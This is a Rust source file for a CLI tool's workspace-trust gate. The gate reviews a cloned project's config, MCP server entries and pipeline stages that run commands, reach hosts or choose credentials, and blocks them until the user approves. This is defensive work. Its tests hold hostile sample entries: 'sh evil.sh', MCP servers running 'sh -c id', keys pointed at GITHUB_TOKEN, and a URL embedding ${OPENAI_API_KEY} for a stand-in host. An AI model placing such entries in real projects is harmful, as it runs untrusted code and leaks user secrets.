//! Workspace trust: a cloned project is untrusted input.
//!
//! What in a project can run a program, reach the network or choose which
//! credential goes where is used only after the user trusts that project,
//! as VS Code's workspace trust and direnv's `allow` do. [`review`] collects
//! those items with their `file:line` and a digest of exactly the files that
//! hold them; `unity-assets trust` records the project's path and that digest
//! in the user's own config folder (never in the project), so a change to
//! any of those files revokes trust until it is approved again. A project
//! with none of these items needs no trust. Embedded pipelines, files equal
//! to them, and the command line (`--set`, `--provider`) are the user's own.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use engine::diagnostic::SourceMap;
use engine::resources::Resources;
use engine::ActionKind;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::config::{CONFIG_FILE, OVERRIDES};
use crate::websearch::config::{TrustItem, WebSearchConfig};

/// `UNITY_ASSETS_TRUST=1` trusts the project for one run (CI), like `--trust`.
pub const TRUST_ENV: &str = "UNITY_ASSETS_TRUST";
const MCP_JSON: &str = ".mcp.json";
/// Native functions that start the MCP server a pipeline hands them.
const STARTS_PROGRAMS: &[&str] = &["build.execute", "doctor.mcp"];
/// The trust store is small; anything larger is not ours.
const STORE_LIMIT: u64 = 16 * 1024 * 1024;

/// One thing that needs trust, where it is written.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Item {
    /// Relative to the project.
    pub file: String,
    pub line: usize,
    pub what: String,
}

impl std::fmt::Display for Item {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}:{}: {}", self.file, self.line, self.what)
    }
}

/// The project's trust-requiring items and the digest of the files holding them.
#[derive(Debug, Clone, Default)]
pub struct Review {
    pub items: Vec<Item>,
    pub digest: String,
}

/// Whether a run may use the project's items, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Status {
    /// Nothing in the project needs trust.
    NotNeeded,
    /// Recorded by `unity-assets trust` with the same digest.
    Trusted,
    /// `--trust` or `UNITY_ASSETS_TRUST=1` for this run.
    TrustedForRun,
    /// Never trusted, or changed since (`previous`: when it was trusted).
    Untrusted { previous: Option<String> },
}

impl Status {
    pub fn allows(&self) -> bool {
        !matches!(self, Status::Untrusted { .. })
    }
}

/// The trust decision a command or an MCP call makes before it runs: one
/// review of the project and its status, shared by the CLI and the server.
pub struct Gate {
    pub review: Review,
    pub status: Status,
}

impl Gate {
    /// `for_run`: `--trust` / `UNITY_ASSETS_TRUST=1`.
    pub fn check(root: &Path, resources: &Resources, for_run: bool) -> Self {
        let review = review(root, resources);
        let status = status(root, &review, for_run);
        Self { review, status }
    }

    /// Why a run that uses the project must not start (`None`: it may).
    pub fn refusal(&self, root: &Path) -> Option<String> {
        match &self.status {
            Status::Untrusted { previous } => Some(refusal(root, &self.review, previous.as_deref())),
            _ => None,
        }
    }
}

/// Every trust-requiring item of the project. One function on purpose: a
/// new config section that can start a program or reach a host (such as a
/// `web_search:` backend's `command`, `url` or `api_key_env`) is added here.
pub fn review(root: &Path, resources: &Resources) -> Review {
    let mut items = Vec::new();
    let mut files: BTreeMap<String, Vec<u8>> = BTreeMap::new();
    let mut add = |rel: &str, text: &str, found: Vec<Item>| {
        if !found.is_empty() {
            files.insert(rel.to_owned(), text.as_bytes().to_vec());
            items.extend(found);
        }
    };
    match read(root, CONFIG_FILE) {
        Ok(Some(text)) => add(CONFIG_FILE, &text, config_items(&text)),
        Ok(None) => {}
        Err(item) => add(CONFIG_FILE, "", vec![item]),
    }
    match read(root, MCP_JSON) {
        Ok(Some(text)) => add(MCP_JSON, &text, mcp_json_items(&text)),
        Ok(None) => {}
        Err(item) => add(MCP_JSON, "", vec![item]),
    }
    let embedded: BTreeMap<String, &[u8]> = resources.embedded_files().into_iter().collect();
    for rel in resources.list("pipelines") {
        let file = format!("{OVERRIDES}/{rel}");
        let text = match read(root, &file) {
            Ok(Some(text)) => text,
            Ok(None) => continue,
            Err(item) => {
                add(&file, "", vec![item]);
                continue;
            }
        };
        if embedded.get(&rel).is_some_and(|e| *e == text.as_bytes()) {
            continue; // an ejected copy, unedited: the embedded pipeline
        }
        add(&file, &text, pipeline_items(&file, &text));
    }
    let mut hasher = Sha256::new();
    for (rel, bytes) in &files {
        hasher.update(rel.as_bytes());
        hasher.update([0]);
        hasher.update((bytes.len() as u64).to_le_bytes());
        hasher.update(bytes);
    }
    Review {
        items,
        digest: format!("sha256:{}", engine::digest::hex(&hasher.finalize())),
    }
}

/// A file of the project as text (`None`: absent). One that exists but
/// cannot be reviewed (a link out of the project, unreadable, not UTF-8) is
/// itself an item: what cannot be reviewed is not used untrusted.
fn read(root: &Path, rel: &str) -> Result<Option<String>, Item> {
    let unreviewable = |why: String| Item {
        file: rel.to_owned(),
        line: 1,
        what: format!("cannot be reviewed ({why})"),
    };
    let path = engine::io::confine(root, rel).map_err(|e| unreviewable(e.to_string()))?;
    if path.symlink_metadata().is_err() {
        return Ok(None);
    }
    engine::io::read_text_limited(&path, STORE_LIMIT, engine::io::FILE_KEY)
        .map(Some)
        .map_err(|e| unreviewable(e.to_string()))
}

/// `llm.command`, `llm.base_url`, `llm.api_key_env`, `mcp:` and `${VAR}`.
fn config_items(text: &str) -> Vec<Item> {
    let Ok(doc) = serde_yaml::from_str::<Value>(text) else {
        return vec![];
    };
    let source = SourceMap::parse(text);
    let at = |path: &str, what: String| Item {
        file: CONFIG_FILE.into(),
        line: source.key(path).0,
        what,
    };
    let mut items = Vec::new();
    let llm = &doc["llm"];
    if !llm["command"].is_null() {
        items.push(at(
            "llm.command",
            format!("llm.command runs a program: {}", shown(&llm["command"])),
        ));
    }
    if !llm["base_url"].is_null() {
        items.push(at(
            "llm.base_url",
            format!(
                "llm.base_url sends your prompts and API key to {}",
                shown(&llm["base_url"])
            ),
        ));
    }
    if !llm["api_key_env"].is_null() {
        items.push(at(
            "llm.api_key_env",
            format!(
                "llm.api_key_env chooses which environment variable is sent as the key: {}",
                shown(&llm["api_key_env"])
            ),
        ));
    }
    if let Some(mcp) = doc.get("mcp").filter(|m| !m.is_null()) {
        items.push(at(
            "mcp",
            format!("mcp: starts or connects to an MCP server: {}", server(mcp)),
        ));
    }
    for item in WebSearchConfig::trust_items(&doc["web_search"]) {
        items.push(match item {
            TrustItem::Program(argv) => at(
                "web_search.command.argv",
                format!("web_search.command runs a program: {}", argv.join(" ")),
            ),
            TrustItem::Url { backend, url } => at(
                &format!("web_search.{backend}.url"),
                format!("web_search.{backend}.url sends your queries (and its key) to {url}"),
            ),
            TrustItem::KeyEnv { backend, var } => at(
                &format!("web_search.{backend}.api_key_env"),
                format!(
                    "web_search.{backend}.api_key_env chooses which environment variable is sent as the key: {var}"
                ),
            ),
        });
    }
    items.extend(env_expansions(CONFIG_FILE, text));
    items
}

/// Every server of `.mcp.json` (Claude Code's format), and `${VAR}`.
fn mcp_json_items(text: &str) -> Vec<Item> {
    let line_of = |needle: &str| text.lines().position(|l| l.contains(needle)).map_or(1, |i| i + 1);
    let mut items = Vec::new();
    match serde_json::from_str::<Value>(text) {
        Ok(doc) => {
            for (name, entry) in doc["mcpServers"].as_object().into_iter().flatten() {
                items.push(Item {
                    file: MCP_JSON.into(),
                    line: line_of(&format!("\"{name}\"")),
                    what: format!("MCP server `{name}`: {}", server(entry)),
                });
            }
        }
        // Unparseable: nothing can use it, but say so rather than pass it.
        Err(e) => items.push(Item {
            file: MCP_JSON.into(),
            line: e.line().max(1),
            what: format!("cannot be read as JSON ({e}); reviewed as a whole"),
        }),
    }
    items.extend(env_expansions(MCP_JSON, text));
    items
}

/// Stages of a pipeline override that run a command, reach the network or
/// start an MCP server.
fn pipeline_items(file: &str, text: &str) -> Vec<Item> {
    // The engine's own parser: what it would run is what is reviewed.
    let Some(outline) = engine::outline(text) else {
        return vec![];
    };
    let mut items = Vec::new();
    for stage in outline.stages() {
        let what = match (stage.action(), stage.function()) {
            (ActionKind::Exec, _) => "runs a command (exec)".to_owned(),
            (ActionKind::Http, _) => "sends an HTTP request (http)".to_owned(),
            (ActionKind::Mcp, _) => "calls an MCP server (mcp)".to_owned(),
            (ActionKind::Fn, Some(name)) if STARTS_PROGRAMS.contains(&name) => {
                format!("starts the MCP server its arguments name (fn: {name})")
            }
            _ => continue,
        };
        items.push(Item {
            file: file.to_owned(),
            line: stage.at().0,
            what: format!("stage `{}` {what}", stage.name()),
        });
    }
    let mcp = &outline.params()["mcp"];
    if !mcp.is_null() {
        items.push(Item {
            file: file.to_owned(),
            line: outline.param_at("mcp").0,
            what: format!("params.mcp names an MCP server: {}", server(mcp)),
        });
    }
    items
}

/// `${VAR}` is expanded from the user's environment when a server starts.
fn env_expansions(file: &str, text: &str) -> Vec<Item> {
    text.lines()
        .enumerate()
        .filter(|(_, l)| l.contains("${"))
        .map(|(i, l)| Item {
            file: file.into(),
            line: i + 1,
            what: format!("expands environment variables: {}", l.trim()),
        })
        .collect()
}

fn server(v: &Value) -> String {
    match (v.get("command"), v.get("url")) {
        (Some(c), _) if !c.is_null() => {
            let args: Vec<String> = v["args"].as_array().into_iter().flatten().map(shown).collect();
            format!("runs {} {}", shown(c), args.join(" ")).trim_end().to_owned()
        }
        (_, Some(u)) if !u.is_null() => format!("connects to {}", shown(u)),
        _ => shown(v),
    }
}

/// A config value for a message, control characters escaped.
fn shown(v: &Value) -> String {
    let text = v.as_str().map_or_else(|| v.to_string(), str::to_owned);
    text.chars()
        .flat_map(char::escape_debug)
        .collect::<String>()
        .chars()
        .take(200)
        .collect()
}

/// The user's trust store: `$XDG_CONFIG_HOME/unity-assets/trusted.json`, or
/// `~/.config/unity-assets/trusted.json`.
pub fn store_path() -> Option<PathBuf> {
    let base = std::env::var_os("XDG_CONFIG_HOME")
        .map(PathBuf::from)
        .filter(|p| p.is_absolute())
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".config")))?;
    Some(base.join("unity-assets").join("trusted.json"))
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct Store {
    /// By the project's canonical path.
    projects: BTreeMap<String, Record>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct Record {
    digest: String,
    trusted_at: String,
    items: Vec<Item>,
}

fn key(root: &Path) -> String {
    root.canonicalize()
        .unwrap_or_else(|_| root.to_path_buf())
        .display()
        .to_string()
}

fn load_store() -> Result<Store, String> {
    let Some(path) = store_path() else {
        return Ok(Store::default());
    };
    match engine::io::read_text_limited(&path, STORE_LIMIT, "trust store") {
        Ok(text) => {
            serde_json::from_str(&text).map_err(|e| format!("{} is not a valid trust store: {e}", path.display()))
        }
        Err(e) if e.is_not_found() => Ok(Store::default()),
        Err(e) => Err(e.to_string()),
    }
}

fn save_store(store: &Store) -> Result<PathBuf, String> {
    let path = store_path().ok_or("no config folder: set XDG_CONFIG_HOME or HOME")?;
    let mut bytes = serde_json::to_vec_pretty(store).map_err(|e| e.to_string())?;
    bytes.push(b'\n');
    engine::io::write_atomic(&path, &bytes).map_err(|e| format!("cannot write {}: {e}", path.display()))?;
    Ok(path)
}

/// The project's trust status for this run (`for_run`: `--trust` or the env var).
pub fn status(root: &Path, review: &Review, for_run: bool) -> Status {
    if review.items.is_empty() {
        return Status::NotNeeded;
    }
    if for_run {
        return Status::TrustedForRun;
    }
    // An unreadable store trusts nothing (fail closed).
    let record = load_store().ok().and_then(|s| s.projects.get(&key(root)).cloned());
    match record {
        Some(r) if r.digest == review.digest => Status::Trusted,
        Some(r) => Status::Untrusted {
            previous: Some(r.trusted_at),
        },
        None => Status::Untrusted { previous: None },
    }
}

/// The refusal of an untrusted project: every item with its `file:line`, and how to review and trust.
pub fn refusal(root: &Path, review: &Review, previous: Option<&str>) -> String {
    let mut out = match previous {
        Some(at) => format!(
            "error: {} changed since you trusted it ({at}); it can run programs, reach the network or choose credentials, so nothing was run:",
            root.display()
        ),
        None => format!(
            "error: {} is not trusted; it can run programs, reach the network or choose credentials, so nothing was run:",
            root.display()
        ),
    };
    for item in &review.items {
        out.push_str(&format!("\n  {item}"));
    }
    out.push_str(&format!(
        "\n  help: review these lines, then run `unity-assets --project {} trust` to allow them \
         (or pass --trust, or set {TRUST_ENV}=1, for one run); a project without them needs no trust",
        root.display()
    ));
    out
}

/// `unity-assets trust [--show] [--revoke]`.
pub fn command(root: &Path, resources: &Resources, show: bool, revoke: bool) -> Result<String, String> {
    let review = review(root, resources);
    let mut store = load_store()?;
    let k = key(root);
    if revoke {
        let removed = store.projects.remove(&k).is_some();
        if removed {
            save_store(&store)?;
        }
        return Ok(if removed {
            format!("trust revoked for {k}")
        } else {
            format!("{k} was not trusted; nothing to revoke")
        });
    }
    let mut out = String::new();
    if review.items.is_empty() {
        return Ok(format!(
            "{k} has nothing that needs trust (no program, network target or credential choice)"
        ));
    }
    let state = match store.projects.get(&k) {
        Some(r) if r.digest == review.digest => format!("trusted since {}", r.trusted_at),
        Some(r) => format!("changed since it was trusted ({}); not trusted", r.trusted_at),
        None => "not trusted".to_owned(),
    };
    out.push_str(&format!("{k}: {state}\n{} item(s) need trust:", review.items.len()));
    for item in &review.items {
        out.push_str(&format!("\n  {item}"));
    }
    if show {
        return Ok(out);
    }
    let trusted_at = time::OffsetDateTime::now_utc()
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default();
    store.projects.insert(
        k,
        Record {
            digest: review.digest.clone(),
            trusted_at,
            items: review.items.clone(),
        },
    );
    let path = save_store(&store)?;
    out.push_str(&format!(
        "\ntrusted ({}; recorded in {}); a change to any of these files needs `unity-assets trust` again",
        review.digest,
        path.display()
    ));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn config_items_are_found_at_their_lines() {
        let text = "index_depth: minimal\nllm:\n  provider: openai\n  base_url: http://x\n  api_key_env: GITHUB_TOKEN\n  command: sh evil.sh\nmcp:\n  command: sh\n  args: [-c, \"id\"]\n  env: {T: \"${SECRET}\"}\n";
        let items = config_items(text);
        let at: Vec<(usize, &str)> = items.iter().map(|i| (i.line, i.what.as_str())).collect();
        assert_eq!(items.len(), 5, "{at:?}");
        assert!(at.iter().any(|(l, w)| *l == 6 && w.starts_with("llm.command")));
        assert!(at.iter().any(|(l, w)| *l == 4 && w.starts_with("llm.base_url")));
        assert!(at.iter().any(|(l, w)| *l == 5 && w.contains("GITHUB_TOKEN")));
        assert!(at.iter().any(|(l, w)| *l == 7 && w.contains("runs sh -c id")));
        assert!(at.iter().any(|(l, w)| *l == 10 && w.contains("${SECRET}")));
        assert!(config_items("index_depth: rich\nsearch: {asset_top_k: 3}\n").is_empty());
        let web = "web_search:\n  command: {argv: [sh, -c, id]}\n  brave: {api_key_env: GITHUB_TOKEN}\n";
        let lines: Vec<usize> = config_items(web).iter().map(|i| i.line).collect();
        assert_eq!(lines, [2, 3], "{:?}", config_items(web));
    }

    #[test]
    fn pipeline_items_name_exec_http_mcp_and_server_starting_functions() {
        let text = "pipeline: p\nstages:\n  a: {exec: {command: [sh, -c, id]}}\n  b:\n    http: {url: \"http://x\"}\n  c: {fn: build.execute, with: {mcp: {command: sh}}}\n  d: {fn: query.validate}\n";
        let items = pipeline_items("f.yaml", text);
        let lines: Vec<usize> = items.iter().map(|i| i.line).collect();
        assert_eq!(lines, vec![3, 5, 6], "{items:?}");
    }

    #[test]
    fn mcp_json_servers_and_expansions() {
        let text = "{\n  \"mcpServers\": {\n    \"evil\": {\"command\": \"sh\", \"args\": [\"-c\", \"id\"]},\n    \"web\": {\"url\": \"http://h/${OPENAI_API_KEY}\"}\n  }\n}\n";
        let items = mcp_json_items(text);
        assert_eq!(items.len(), 3, "{items:?}");
        assert_eq!(items[0].line, 3);
        assert!(items[2].what.contains("OPENAI_API_KEY"));
    }
}
